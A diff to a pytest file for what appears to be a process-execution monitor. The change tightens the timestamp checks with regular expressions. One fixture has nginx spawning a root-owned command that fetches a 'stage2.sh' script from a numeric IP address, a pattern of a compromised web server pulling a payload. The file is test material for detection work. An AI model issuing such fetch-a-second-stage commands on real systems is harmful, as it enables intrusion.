@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 
 import pytest
 from rich.console import Console
@@ -63,8 +64,8 @@ def _printed(
 
 def test_a_line_has_time_pid_user_chain_and_command_in_a_pipe() -> None:
     (line,), _ = _printed(("curl", "http://203.0.113.50/stage2.sh"))
-    clock, pid, user, rest = line.split(maxsplit=3)
-    assert clock.count(":") == 2
+    time, pid, user, rest = line.split(maxsplit=3)
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z", time)
     assert pid.isdigit()
     assert user == "root"
     assert rest == "systemd → nginx → curl   curl http://203.0.113.50/stage2.sh"
@@ -100,6 +101,7 @@ def test_a_terminal_gets_one_line_an_exec_however_long_the_command() -> None:
 
 def test_a_chain_that_has_room_on_a_terminal_is_whole() -> None:
     (line,), _ = _printed(("curl",), above=("nginx", "worker", "handler"), terminal=True, width=80)
+    assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3}", line.split()[0])
     assert line.split(maxsplit=3)[3] == "systemd → nginx → worker → handler → curl   curl"
 
 
